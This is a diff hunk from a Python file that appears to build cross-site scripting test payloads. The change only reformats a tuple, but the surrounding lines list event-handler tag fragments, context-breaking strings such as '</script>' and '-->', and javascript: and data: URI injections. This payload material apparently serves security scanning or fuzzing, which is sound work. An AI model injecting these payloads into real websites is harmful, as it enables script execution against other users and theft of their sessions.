@@ -6,7 +6,18 @@ TAGS = ("img src=x onerror", "svg onload", "body onload", "input autofocus onfoc
         "style onload", "link rel=stylesheet href=x onerror", "select autofocus onfocus", "textarea autofocus onfocus",
         "keygen autofocus onfocus", "embed src=x onerror", "math onmouseover", "a href=# onfocus",
         "p onpointerenter")  # fmt: skip
-BREAKS = ("", '"', "'", "</script>", "</title>", "</textarea>", "]]>", "-->", "`", "</td></tr></table>")
+BREAKS = (
+    "",
+    '"',
+    "'",
+    "</script>",
+    "</title>",
+    "</textarea>",
+    "]]>",
+    "-->",
+    "`",
+    "</td></tr></table>",
+)
 LINKS = (f"<a href=javascript:{HIT}>x</a>", f"<a href='data:text/html,<script>{HIT}</script>'>x</a>",
          f"javascript:{HIT}", f"<form action=javascript:{HIT}><button>x", f"<base href=javascript:{HIT}//>",
          f"<iframe srcdoc='<script>parent.{HIT}</script>'>", f"<meta http-equiv=refresh content='0;javascript:{HIT}'>",
